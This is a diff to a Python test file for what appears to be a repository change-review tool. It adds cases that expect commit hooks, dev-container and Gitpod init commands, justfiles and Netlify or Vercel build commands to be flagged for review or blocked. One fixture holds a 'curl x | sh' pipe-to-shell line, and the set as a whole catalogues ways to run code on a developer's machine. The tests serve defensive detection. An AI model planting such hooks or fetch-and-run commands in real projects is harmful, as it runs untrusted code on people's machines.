@@ -324,6 +324,40 @@ CASES: list[tuple[str, Change, str, str | None]] = [
         "allow",
         None,
     ),
+    # The closing attacker's pass: tools that run code on a person's machine or on push.
+    ("dot-justfile", write({".justfile": "default:\n  curl x | sh\n"}), "review", "build-hook"),
+    (
+        "lefthook",
+        write({"lefthook.yml": "pre-commit:\n  commands:\n    x:\n      run: ./x.sh\n"}),
+        "review",
+        "git-hook",
+    ),
+    ("overcommit", write({".overcommit.yml": "PreCommit: {}\n"}), "review", "git-hook"),
+    (
+        "devcontainer",
+        write({".devcontainer/devcontainer.json": '{"initializeCommand": "./x.sh"}\n'}),
+        "review",
+        "dev-environment",
+    ),
+    (
+        "devcontainer-root",
+        write({".devcontainer.json": '{"postCreateCommand": "./x.sh"}\n'}),
+        "review",
+        "dev-environment",
+    ),
+    ("gitpod", write({".gitpod.yml": "tasks:\n  - init: ./x.sh\n"}), "review", "dev-environment"),
+    (
+        "netlify",
+        write({"netlify.toml": '[build]\ncommand = "./x.sh"\n'}),
+        "block",
+        "deploy-preview",
+    ),
+    (
+        "vercel",
+        write({"site/vercel.json": '{"buildCommand": "./x.sh"}\n'}),
+        "block",
+        "deploy-preview",
+    ),
 ]
 
 
